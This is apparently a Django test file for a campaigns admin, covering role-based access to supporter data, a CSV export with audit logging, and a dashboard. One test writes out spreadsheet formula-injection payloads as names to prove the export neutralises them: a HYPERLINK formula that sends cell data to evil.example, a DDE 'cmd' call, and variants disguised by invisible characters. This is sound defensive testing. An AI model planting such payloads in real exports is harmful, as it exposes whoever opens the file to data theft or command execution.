"""The campaigns admin: who reaches supporters' data, the CSV export, the campaign dashboard."""

import csv
import io
from datetime import UTC, datetime, time, timedelta

import pytest
from django.contrib.auth.models import User
from django.contrib.contenttypes.models import ContentType
from django.core.cache import cache
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from campaigns.models import Signup, SignupTally
from staff.models import AuditEntry
from tests.helpers import make_campaign, make_staff, staff_login

pytestmark = pytest.mark.django_db


def exports():
    """The entries exports wrote as they started (the end of the stream writes another one:
    test_export_complete)."""
    return AuditEntry.objects.filter(
        action=AuditEntry.Action.SIGNUP_EXPORT, details__has_key="count"
    )


ROLES = ("Writer", "Editor", "Campaign manager", "Administrator")
EN = {"Accept-Language": "en"}
CHANGELIST = "/admin/campaigns/signup/"
EXPORT = "/admin/campaigns/signup/export/"

# The designed outcome per page and role (POST for the export, GET for the others).
# fmt: off
MATRIX = {
    #  page                   Writer  Editor  Campaign  Administrator
    "signup changelist":      (403,   403,    200,      200),
    "signup change":          (403,   403,    200,      200),
    "signup add":             (403,   403,    403,      403),
    "signup export":          (403,   403,    200,      403),
    "campaign change":        (403,   403,    200,      200),
    "campaign dashboard":     (403,   403,    200,      200),
}
# fmt: on


def make_signup(campaign, email=None, **fields):
    """A signup; `created_at` (set on insert by auto_now_add) may be given and is then stored."""
    created_at = fields.pop("created_at", None)
    values = {
        "email": email or f"supporter-{Signup.objects.count()}@example.org",
        "full_name": "Supporter",
        "language": "en",
    }
    signup = Signup.objects.create(campaign=campaign, **(values | fields))
    if created_at:
        Signup.objects.filter(pk=signup.pk).update(created_at=created_at)
    return signup


def sign_in(client, role):
    staff_login(client, make_staff(role))
    return client


@pytest.fixture
def manager(client):
    return sign_in(client, "Campaign manager")


def export(client, query="", **data):
    response = client.post(EXPORT + query, data, headers=EN)
    assert response.status_code == 200
    return response, b"".join(response.streaming_content)


def parse(body):
    """The rows of a CSV file as a spreadsheet program reads it (header row included)."""
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def emails(body):
    return sorted(row[0] for row in parse(body)[1:])


# --- Who reaches what ----------------------------------------------------------------------


@pytest.fixture
def pages():
    campaign = make_campaign()
    signup = make_signup(campaign)
    return {
        "signup changelist": ("get", CHANGELIST),
        "signup change": ("get", f"{CHANGELIST}{signup.pk}/change/"),
        "signup add": ("get", f"{CHANGELIST}add/"),
        "signup export": ("post", EXPORT),
        "campaign change": ("get", f"/admin/campaigns/campaign/{campaign.pk}/change/"),
        "campaign dashboard": ("get", f"/admin/campaigns/campaign/{campaign.pk}/dashboard/"),
    }


@pytest.mark.parametrize("role", ROLES)
def test_each_role_reaches_exactly_the_supporter_pages_it_is_designed_for(client, pages, role):
    sign_in(client, role)
    column = ROLES.index(role)
    expected = {page: outcomes[column] for page, outcomes in MATRIX.items()}
    actual = {
        page: getattr(client, method)(url, headers=EN).status_code
        for page, (method, url) in pages.items()
    }
    assert actual == expected
    # Only an export that happened is logged; a refused one leaves no trace but the 403.
    assert exports().count() == (1 if expected["signup export"] == 200 else 0)


def test_visitors_without_a_staff_account_are_sent_to_the_login(client, pages):
    outsider = User.objects.create_user("reader")
    for user in (None, outsider):
        client.logout()
        if user:
            staff_login(client, user)
        for page, (method, url) in pages.items():
            response = getattr(client, method)(url)
            assert response.status_code == 302, page
            assert response.headers["Location"].startswith("/admin/login/"), page
    assert not exports().exists()


def test_the_export_is_offered_to_a_campaign_manager_only(client, pages):
    html = sign_in(client, "Campaign manager").get(CHANGELIST, headers=EN).content.decode()
    assert "Export CSV" in html
    assert 'value="export_selected"' in html

    html = sign_in(client, "Administrator").get(CHANGELIST, headers=EN).content.decode()
    assert "Export CSV" not in html
    assert 'value="export_selected"' not in html
    # Nor does the action run when posted anyway.
    signup = Signup.objects.get()
    response = client.post(
        CHANGELIST,
        {"action": "export_selected", "index": "0", "_selected_action": [signup.pk]},
        headers=EN,
    )
    assert not isinstance(response, StreamingHttpResponse)
    assert not exports().exists()


def test_the_export_is_a_post_not_a_link_to_follow(manager):
    assert manager.get(EXPORT).status_code == 405
    assert not exports().exists()


def test_the_dashboard_is_linked_from_the_campaign_form_for_who_may_open_it(client, pages):
    campaign_url = pages["campaign change"][1]
    dashboard_url = pages["campaign dashboard"][1]
    for role in ("Campaign manager", "Administrator"):
        assert dashboard_url in sign_in(client, role).get(campaign_url).content.decode()


def test_an_unknown_campaign_has_no_dashboard(manager):
    assert manager.get("/admin/campaigns/campaign/999999/dashboard/").status_code == 404


# --- The changelist: filters and search ----------------------------------------------------


@pytest.mark.parametrize("role", ["Campaign manager", "superuser"])
def test_staff_see_a_supporters_details_but_cannot_change_them(client, role):
    if role == "superuser":
        staff_login(client, User.objects.create_superuser("root", "root@example.org", "x" * 16))
    else:
        sign_in(client, role)
    signup = make_signup(make_campaign(), "leila@example.org", full_name="Leila", phone="+2010")
    url = f"{CHANGELIST}{signup.pk}/change/"
    page = client.get(url, headers=EN)
    assert page.status_code == 200 and "Leila" in page.content.decode()
    assert 'name="full_name"' not in page.content.decode()  # shown, not a form field
    response = client.post(url, {"full_name": "Mallory", "phone": "+4412", "language": "en"})
    assert response.status_code == 403
    signup.refresh_from_db()
    assert (signup.full_name, signup.phone) == ("Leila", "+2010")


@pytest.fixture
def supporters():
    now = timezone.now()
    first, second = make_campaign(), make_campaign()
    return {
        "first": first,
        "second": second,
        "a": make_signup(
            first,
            "leila@example.org",
            country="EG",
            confirmed_at=now,
            sources=[{"source": "newsletter"}, {"source": "facebook"}],
        ),
        "b": make_signup(
            first,
            "omar@example.net",
            country="LB",
            language="ar",
            confirmed_at=now,
            unsubscribed_at=now,
            sources=[{"source": "facebook"}, {"source": "newsletter"}],
        ),
        "c": make_signup(first, "maleila@example.org", sources=[]),
        "d": make_signup(second, "leila@example.org.uk", country="EG"),
    }


def listed(client, query):
    response = client.get(CHANGELIST + query, headers=EN)
    assert response.status_code == 200
    return sorted(signup.email for signup in response.context["cl"].result_list)


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("", ["a", "b", "c", "d"]),
        ("?confirmed=yes", ["a", "b"]),
        ("?confirmed=no", ["c", "d"]),
        ("?unsubscribed=yes", ["b"]),
        ("?unsubscribed=no", ["a", "c", "d"]),
        ("?country=EG", ["a", "d"]),
        ("?language=ar", ["b"]),
        # The last source only: "a" came from the newsletter first, then from facebook.
        ("?source=facebook", ["a"]),
        ("?source=newsletter", ["b"]),
        ("?source=__none__", ["c", "d"]),
        ("?confirmed=yes&unsubscribed=no", ["a"]),
        # A whole address finds that address only, in any case; part of one finds all with it.
        ("?q=Leila@Example.org", ["a"]),
        ("?q=leila", ["a", "c", "d"]),
        ("?q=@example.org", ["a", "c", "d"]),
    ],
)
def test_the_filters_and_the_search_select_the_right_supporters(
    manager, supporters, query, expected
):
    assert listed(manager, query) == sorted(supporters[key].email for key in expected)


def test_the_campaign_filter_and_its_sources(manager, supporters):
    first = supporters["first"]
    assert listed(manager, f"?campaign__id__exact={first.pk}") == sorted(
        supporters[key].email for key in "abc"
    )
    html = manager.get(CHANGELIST, headers=EN).content.decode()
    # The source filter offers the sources in use, and "no source".
    for source in ("?source=facebook", "?source=newsletter", "?source=__none__"):
        assert source in html
    # Countries are named in the admin's language, and only those with supporters are listed.
    assert "Egypt" in html and "Lebanon" in html and "Syria" not in html
    assert "مصر" in manager.get(CHANGELIST, headers={"Accept-Language": "ar"}).content.decode()


# --- The export ------------------------------------------------------------------------------


def test_the_export_streams_a_utf8_file_with_a_bom_as_an_attachment(manager, supporters):
    response, body = export(manager)
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "no-store" in response["Cache-Control"]
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="signups-')
    assert disposition.endswith('.csv"') and disposition.isascii()
    assert body.startswith(b"\xef\xbb\xbf")
    assert not body[3:].startswith(b"\xef\xbb\xbf")  # one BOM, at the very start


def test_the_export_has_every_column_and_arabic_survives_the_round_trip(manager, settings):
    settings.TIME_ZONE = "Asia/Riyadh"  # UTC+3, no daylight saving: times are in the site's zone
    campaign = make_campaign(title_en="Free elections", title_ar="انتخابات حرة")
    consent = datetime(2026, 1, 5, 9, 0, tzinfo=UTC)
    make_signup(
        campaign,
        "leila@example.org",
        full_name="ليلى أحمد",
        country="EG",
        phone="0123 456",
        language="ar",
        consent_given_at=consent,
        created_at=consent,
        confirmed_at=consent + timedelta(minutes=5),
        unsubscribed_at=consent + timedelta(days=1),
        sources=[{"source": "newsletter"}, {"source": "حملة الربيع"}],
    )
    _, body = export(manager)
    header, row = parse(body)
    assert header == [
        "email",
        "full name",
        "country code",
        "phone",
        "language",
        "campaign title",
        "signed up",
        "confirmed at",
        "unsubscribed at",
        "consent given at",
        "last source",
    ]
    assert row == [
        "leila@example.org",
        "ليلى أحمد",
        "EG",
        "0123 456",
        "ar",
        "Free elections",
        "2026-01-05 12:00:00+03:00",
        "2026-01-05 12:05:00+03:00",
        "2026-01-06 12:00:00+03:00",
        "2026-01-05 12:00:00+03:00",
        "حملة الربيع",
    ]
    # In Arabic, the headers and the campaign's title are Arabic too.
    response = manager.post(EXPORT, headers={"Accept-Language": "ar"})
    _, row = parse(b"".join(response.streaming_content))
    assert row[5] == "انتخابات حرة"


@pytest.mark.parametrize(
    ("name", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@x", "'@x"),
        ("-1+2", "'-1+2"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        # Behind a leading invisible character, or in fullwidth and small forms.
        ("\u00ad=1+1", "'\u00ad=1+1"),  # soft hyphen
        ("\u034f=1+1", "'\u034f=1+1"),  # combining grapheme joiner
        ("\u180e=1+1", "'\u180e=1+1"),  # Mongolian vowel separator
        ("\u200f=1+1", "'\u200f=1+1"),  # right-to-left mark
        (" =1+1", "' =1+1"),
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠x", "'＠x"),
        ("﹦1+1", "'﹦1+1"),  # small equals sign
        ("Leila = Layla", "Leila = Layla"),  # only the first character makes a formula
        ("ليلى", "ليلى"),
    ],
)
def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(manager, name, written):
    make_signup(make_campaign(), "x@example.org", full_name=name, phone="+20 100")
    _, body = export(manager)
    row = parse(body)[1]
    assert row[1] == written
    assert row[3] == "'+20 100"  # a phone number too: "+20 100" is a formula to a spreadsheet


def test_the_export_holds_what_the_list_filter_and_search_select(manager, supporters):
    first = supporters["first"]
    _, body = export(manager, f"?campaign__id__exact={first.pk}&confirmed=yes")
    assert emails(body) == ["leila@example.org", "omar@example.net"]
    _, body = export(manager, "?source=facebook&q=example.org")
    assert emails(body) == ["leila@example.org"]
    _, body = export(manager, "?country=EG&p=2")  # the page shown does not matter: all of them
    assert emails(body) == ["leila@example.org", "leila@example.org.uk"]


def test_the_export_action_holds_the_ticked_rows_only(manager, supporters):
    ticked = [supporters["a"].pk, supporters["d"].pk]
    response = manager.post(
        CHANGELIST,
        {"action": "export_selected", "index": "0", "_selected_action": ticked},
        headers=EN,
    )
    assert isinstance(response, StreamingHttpResponse)
    body = b"".join(response.streaming_content)
    assert emails(body) == ["leila@example.org", "leila@example.org.uk"]
    entry = exports().get()
    assert "Exported 2 signups" in entry.target
    assert "ticked" in entry.target


def test_the_export_action_across_all_pages_holds_the_whole_filter(manager, supporters):
    response = manager.post(
        CHANGELIST + "?confirmed=no",
        {
            "action": "export_selected",
            "index": "0",
            "select_across": "1",
            "_selected_action": [supporters["c"].pk],
        },
        headers=EN,
    )
    body = b"".join(response.streaming_content)
    assert emails(body) == ["leila@example.org.uk", "maleila@example.org"]
    message = exports().get().target
    assert "Exported 2 signups" in message and "ticked" not in message
    assert "?confirmed=no" in message


def test_every_export_is_logged_with_who_which_filter_and_how_many_rows(manager, supporters):
    before = timezone.now()
    query = f"?campaign__id__exact={supporters['first'].pk}&confirmed=yes"
    export(manager, query)
    entry = exports().get()
    assert entry.actor.groups.get().name == "Campaign manager"
    assert entry.created_at >= before
    assert entry.details == {"count": 2, "filter": query[1:]}
    assert "Exported 2 signups as CSV." in entry.target
    assert query in entry.target
    export(manager)
    assert "Exported 4 signups as CSV. Filter: —" in exports().latest("pk").target


def test_a_broken_filter_exports_nothing(manager, supporters):
    response = manager.post(EXPORT + "?campaign__id__exact=not-a-number")
    assert response.status_code == 302
    assert response["Location"] == CHANGELIST + "?e=1"
    assert not exports().exists()


def count_export_queries(client, expected_lines):
    cache.clear()  # the source filter's choices, counted afresh each time
    ContentType.objects.clear_cache()
    with CaptureQueriesContext(connection) as queries:
        response = client.post(EXPORT, headers=EN)
        assert isinstance(response, StreamingHttpResponse)
        lines = sum(chunk.count(b"\n") for chunk in response.streaming_content)
    assert lines == expected_lines + 1  # and the header
    return len(queries)


def test_the_export_streams_thousands_of_rows_in_a_constant_number_of_queries(
    manager, django_assert_max_num_queries
):
    campaign = make_campaign()
    make_signup(campaign, full_name="ليلى")
    few = count_export_queries(manager, 1)
    Signup.objects.bulk_create(
        Signup(campaign=campaign, email=f"s{n}@example.org", full_name="ليلى أحمد", language="ar")
        for n in range(4999)
    )
    with django_assert_max_num_queries(15):
        many = count_export_queries(manager, 5000)
    assert many == few
    # The rows come in pieces (not one string built in memory): 2,000 rows a piece.
    response = manager.post(EXPORT)
    assert len(list(response.streaming_content)) == 3


# --- The dashboard ---------------------------------------------------------------------------


def local_noon(days_ago):
    day = timezone.localdate() - timedelta(days=days_ago)
    return timezone.make_aware(datetime.combine(day, time(12)))


@pytest.fixture
def dataset(settings):
    settings.TIME_ZONE = "Asia/Riyadh"
    campaign, other = make_campaign(goal=50), make_campaign()
    now = timezone.now()
    plan = [
        # days ago, country, confirmed, unsubscribed, sources
        (0, "EG", True, False, ["newsletter"]),
        (0, "EG", True, False, ["facebook", "newsletter"]),
        (0, "LB", False, False, ["newsletter"]),
        (2, "EG", True, True, ["facebook"]),
        (2, "", False, False, []),
        (29, "SY", False, False, ["facebook"]),
        (30, "SY", True, False, ["twitter"]),  # too old for the 30-day table, counted in totals
        (45, "EG", False, False, ["twitter"]),
    ]
    for days_ago, country, confirmed, unsubscribed, sources in plan:
        make_signup(
            campaign,
            country=country,
            created_at=local_noon(days_ago),
            confirmed_at=now if confirmed else None,
            unsubscribed_at=now if unsubscribed else None,
            sources=[{"source": source} for source in sources],
        )
    make_signup(other, country="EG", created_at=local_noon(0), sources=[{"source": "newsletter"}])
    # Just before midnight UTC is already the next day in Riyadh (UTC+3).
    late = local_noon(1).replace(hour=2)
    make_signup(campaign, country="JO", created_at=late, sources=[{"source": "newsletter"}])
    # Rows written around Signup's methods, as a bulk load writes them: counted afresh.
    SignupTally.objects.recount([campaign, other])
    return campaign


def test_the_dashboard_adds_up_a_known_campaign(manager, dataset):
    response = manager.get(f"/admin/campaigns/campaign/{dataset.pk}/dashboard/", headers=EN)
    assert response.status_code == 200
    numbers = response.context["numbers"]
    assert numbers["total"] == 9
    assert numbers["confirmed"] == 4
    assert numbers["unsubscribed"] == 1
    assert numbers["confirmed_rate"] == pytest.approx(100 * 4 / 9)
    per_day = {day: count for day, count, _to_date in numbers["per_day"]}
    today = timezone.localdate()
    assert len(per_day) == 30 and min(per_day) == today - timedelta(days=29)
    assert per_day[today] == 3
    assert per_day[today - timedelta(days=1)] == 1
    assert per_day[today - timedelta(days=2)] == 2
    assert per_day[today - timedelta(days=29)] == 1
    assert sum(per_day.values()) == numbers["recent_total"] == 7
    to_date = {day: to_date for day, _count, to_date in numbers["per_day"]}
    assert to_date[today] == 9 and to_date[today - timedelta(days=2)] == 5
    # The latest source of each supporter: "facebook, newsletter" counts as newsletter.
    assert numbers["sources"] == [("newsletter", 4), ("facebook", 2), ("twitter", 2), ("", 1)]
    assert numbers["countries"] == [
        ("Egypt", 4),
        ("Syria", 2),
        ("", 1),
        ("Jordan", 1),
        ("Lebanon", 1),
    ]
    html = response.content.decode()
    assert "44.4%" in html
    assert "Not given" in html and "No source" in html


def test_the_dashboard_names_countries_in_the_admins_language(manager, dataset):
    url = f"/admin/campaigns/campaign/{dataset.pk}/dashboard/"
    response = manager.get(url, headers={"Accept-Language": "ar"})
    assert dict(response.context["numbers"]["countries"])["مصر"] == 4


def test_the_dashboard_takes_as_many_queries_for_many_signups_as_for_few(manager, dataset):
    url = f"/admin/campaigns/campaign/{dataset.pk}/dashboard/"
    with CaptureQueriesContext(connection) as few:
        manager.get(url)
    Signup.objects.bulk_create(
        Signup(campaign=dataset, email=f"s{n}@example.org", country="EG", language="ar")
        for n in range(500)
    )
    with CaptureQueriesContext(connection) as many:
        manager.get(url)
    assert len(many) == len(few)
